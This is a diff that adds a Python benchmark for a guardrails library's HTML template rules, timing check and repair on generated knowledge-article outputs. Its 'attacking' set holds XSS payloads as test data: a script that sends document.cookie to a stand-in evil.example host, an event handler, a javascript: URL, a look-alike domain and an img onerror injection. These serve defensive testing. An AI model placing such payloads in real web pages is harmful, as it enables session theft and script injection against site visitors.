@@ -1,0 +1,190 @@
+"""Benchmark: the html_template rules (check) and check plus repair on ~5 KB outputs; prints p50/p99.
+
+Run: python tests/bench/bench_html.py [--n 200] [--repeat 5]
+
+Outputs fill a knowledge-article template (fixtures/html/bench/kb-article.html, registered here with the
+bundled html rule pack) with generated text: six sections of paragraphs, links, emphasis and lists. Three
+sets: conforming outputs (check only, repair off), straying outputs (check + repair: unmarked sections,
+chatter, reordering, over-long sections) and attacking outputs (check + repair: script, handlers,
+javascript: URLs, foreign links). Seeded, so runs are comparable; timings are wall-clock on one thread
+of a shared machine, so expect noise.
+"""
+
+from __future__ import annotations
+
+import argparse
+import random
+import sys
+import tempfile
+import time
+from pathlib import Path
+from typing import Any
+
+import yaml
+
+ROOT = Path(__file__).resolve().parents[2]
+sys.path.insert(0, str(ROOT))
+
+from guardrails import Engine  # noqa: E402
+from guardrails.rules.loader import load_ruleset  # noqa: E402
+
+WORDS = (
+    "account billing invoice export setting profile device network password session token release update "
+    "storage backup region latency request response limit quota dashboard report filter column schedule "
+    "the a of to and in for with on is are can you your we this that it be by from as at or"
+).split()
+TEMPLATE = {
+    "file": str(ROOT / "fixtures" / "html" / "bench" / "kb-article.html"),
+    "slots": {
+        "title": {"text_only": True, "max_chars": 120},
+        "lede": {"allowed_tags": ["strong", "em"], "max_chars": 400},
+        "section": {
+            "label": "section",
+            "repeated": True,
+            "max_items": 12,
+            "allowed_tags": ["h3", "p", "strong", "em", "code", "a", "ul", "li", "br"],
+            "max_chars": 900,
+            "links": {"schemes": ["https"], "domains": ["docs.example.com", "help.example.com"]},
+        },
+        "source": {
+            "required": False,
+            "repeated": True,
+            "max_items": 8,
+            "allowed_tags": ["a"],
+            "links": {"schemes": ["https"], "domains": ["docs.example.com", "help.example.com"]},
+        },
+    },
+}
+
+
+def sentence(rng: random.Random, n: int) -> str:
+    words = [rng.choice(WORDS) for _ in range(n)]
+    return " ".join(words).capitalize() + "."
+
+
+def paragraph(rng: random.Random) -> str:
+    parts = []
+    for _ in range(rng.randint(2, 4)):
+        s = sentence(rng, rng.randint(6, 14))
+        roll = rng.random()
+        if roll < 0.3:
+            w = rng.choice(WORDS)
+            s = s.replace(f" {w} ", f" <strong>{w}</strong> ", 1)
+        elif roll < 0.5:
+            s += f' See <a href="https://docs.example.com/{rng.choice(WORDS)}">{rng.choice(WORDS)} docs</a>.'
+        parts.append(s)
+    return "<p>" + " ".join(parts) + "</p>"
+
+
+def article(rng: random.Random, target: int = 5000) -> str:
+    sections = []
+    total = 0
+    while total < target - 900 and len(sections) < 12:
+        body = f"<h3>{sentence(rng, 4)}</h3>" + "".join(paragraph(rng) for _ in range(rng.randint(1, 2)))
+        if rng.random() < 0.4:
+            body += "<ul>" + "".join(f"<li>{sentence(rng, 5)}</li>" for _ in range(3)) + "</ul>"
+        body = body[:880] if len(body) < 880 else body
+        if len(body) > 880:
+            continue
+        sections.append(f'    <div class="section" data-slot="section">{body}</div>')
+        total += len(sections[-1])
+    sources = "\n".join(
+        f'    <li data-slot="source"><a href="https://help.example.com/{rng.choice(WORDS)}">{sentence(rng, 3)}</a></li>'
+        for _ in range(3)
+    )
+    return (
+        '<article class="kb-article">\n'
+        f'  <h1 class="title" data-slot="title">{sentence(rng, 6)}</h1>\n'
+        f'  <p class="lede" data-slot="lede">{sentence(rng, 20)}</p>\n'
+        '  <section class="body">\n' + "\n".join(sections) + "\n  </section>\n  <h2>Sources</h2>\n"
+        '  <ul class="sources">\n' + sources + "\n  </ul>\n</article>\n"
+    )
+
+
+STRAY = [
+    lambda t, r: "Sure! Here is the article you asked for:\n" + t + "\nAnything else?",
+    lambda t, r: t.replace(' data-slot="section"', "", 2),
+    lambda t, r: t.replace("</p>", "", 1),
+    lambda t, r: t.replace('<h1 class="title" data-slot="title">', '<h1 class="title" data-slot="headline">'),
+    lambda t, r: t.replace("</section>", '<div data-slot="title">Late title</div></section>'),
+]
+ATTACK = [
+    lambda t, r: t.replace("</p>", "<script>fetch('//evil.example/?'+document.cookie)</script></p>", 1),
+    lambda t, r: t.replace("<p>", '<p onclick="steal()">', 2),
+    lambda t, r: t.replace('href="https://docs.example.com/', 'href="javascript:alert(1)//', 1),
+    lambda t, r: t.replace("https://help.example.com/", "https://help.example.com.evil.example/", 1),
+    lambda t, r: t.replace("<strong>", '<strong style="display:none"><img src=x onerror=alert(1)>', 1),
+]
+
+
+def mutate(text: str, rng: random.Random, ops: list[Any]) -> str:
+    for op in rng.sample(ops, k=rng.randint(1, 3)):
+        text = op(text, rng)
+    return text
+
+
+def build_engine(repair: bool) -> Engine:
+    pack = yaml.safe_load((ROOT / "rules" / "html.yaml").read_text(encoding="utf-8"))
+    for rule in pack["rules"]:
+        rule["params"] = {**rule["params"], "templates": {**rule["params"]["templates"], "kb-article": TEMPLATE}}
+        rule["examples"] = {}
+    tmp = Path(tempfile.mkdtemp(prefix="bench_html_"))
+    (tmp / "templates").symlink_to(ROOT / "rules" / "templates")
+    (tmp / "html.yaml").write_text(yaml.safe_dump(pack), encoding="utf-8")
+    (tmp / "policies").mkdir()
+    policy = {"name": "bench", "rules": ["pack:html"], "repair": {"enabled": repair, "max_rounds": 4}}
+    (tmp / "policies" / "bench.yaml").write_text(yaml.safe_dump(policy), encoding="utf-8")
+    return Engine.from_policy("bench", ruleset=load_ruleset([tmp], include_bundled=False))
+
+
+def pct(values: list[float], q: float) -> float:
+    ordered = sorted(values)
+    return ordered[min(len(ordered) - 1, round(q / 100 * (len(ordered) - 1)))]
+
+
+def run(engine: Engine, outputs: list[str], repeat: int) -> tuple[list[float], list[float], dict[str, int]]:
+    ctx = {"template": "kb-article"}
+    for o in outputs[:20]:
+        engine.validate(o, ctx)
+    check_ms: list[float] = []
+    total_ms: list[float] = []
+    verdicts: dict[str, int] = {}
+    for _ in range(repeat):
+        for o in outputs:
+            t0 = time.perf_counter()
+            report = engine.validate(o, ctx)
+            total_ms.append((time.perf_counter() - t0) * 1000)
+            # The check proper: all html_template rules on the original text (the first len(rules) timings).
+            check_ms.append(sum(t.ms for t in report.timings[: len(engine.rules)]))
+            verdicts[report.verdict.value] = verdicts.get(report.verdict.value, 0) + 1
+    return check_ms, total_ms, verdicts
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--n", type=int, default=200, help="outputs per set")
+    parser.add_argument("--repeat", type=int, default=5)
+    args = parser.parse_args()
+    rng = random.Random(1234)
+    conforming = [article(rng) for _ in range(args.n)]
+    straying = [mutate(t, rng, STRAY) for t in conforming]
+    attacking = [mutate(t, rng, ATTACK) for t in conforming]
+    size = sum(map(len, conforming)) / len(conforming)
+    check_only, with_repair = build_engine(False), build_engine(True)
+    print(f"{args.n} outputs per set, mean {size:.0f} chars, x{args.repeat} passes, {len(check_only.rules)} html rules")
+    print(f"{'set':<34} {'check p50':>10} {'check p99':>10} {'total p50':>10} {'total p99':>10}  verdicts")
+    for label, engine, outputs in (
+        ("conforming (check only)", check_only, conforming),
+        ("straying (check + repair)", with_repair, straying),
+        ("attacking (check + repair)", with_repair, attacking),
+    ):
+        check_ms, total_ms, verdicts = run(engine, outputs, args.repeat)
+        print(
+            f"{label:<34} {pct(check_ms, 50):>10.3f} {pct(check_ms, 99):>10.3f} "
+            f"{pct(total_ms, 50):>10.3f} {pct(total_ms, 99):>10.3f}  {verdicts}"
+        )
+    print("ms; budget: check p50 <= 1 ms on 5 KB outputs")
+
+
+if __name__ == "__main__":
+    main()
